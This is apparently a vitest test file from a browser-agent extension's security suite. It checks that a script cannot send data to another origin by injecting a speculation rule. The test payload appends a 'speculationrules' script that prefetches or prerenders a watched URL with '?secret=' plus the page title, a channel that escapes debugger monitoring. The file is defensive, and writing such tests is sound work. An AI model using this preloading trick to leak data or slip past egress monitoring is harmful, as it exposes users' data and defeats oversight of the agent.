// A speculation rule the agent's script adds, through the real extension (as the engine's egress-speculation test does
// in the fallback): the browser, not the page, would send its prefetch or prerender of another origin's URL, out of
// the debugger's reach; with preloading off none leaves, and the page's own sends still go.
import { describe, expect, it } from 'vitest';
import { watchedEgressTab } from './support/watched-egress-tab.js';

const egress = watchedEgressTab();

// Where the browser preloads, the request reaches the watched site within a few hundred ms of the rule (Chromium 150).
const PRELOAD_WAIT_MS = 2_000;

describe('a speculation rule the script adds sends nothing to another origin, through the extension', () => {
  it.each(['prefetch', 'prerender'])(
    '%s',
    async (kind) => {
      await egress.run(
        `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: JSON.stringify({ ${kind}: [{ source: 'list', urls: ['${egress.watched.origin}/${kind}?secret=' + document.title] }] }) })); 1`,
      );
      await new Promise((resolve) => setTimeout(resolve, PRELOAD_WAIT_MS));
      expect(await egress.reached()).toEqual([]);
    },
    60_000,
  );
});
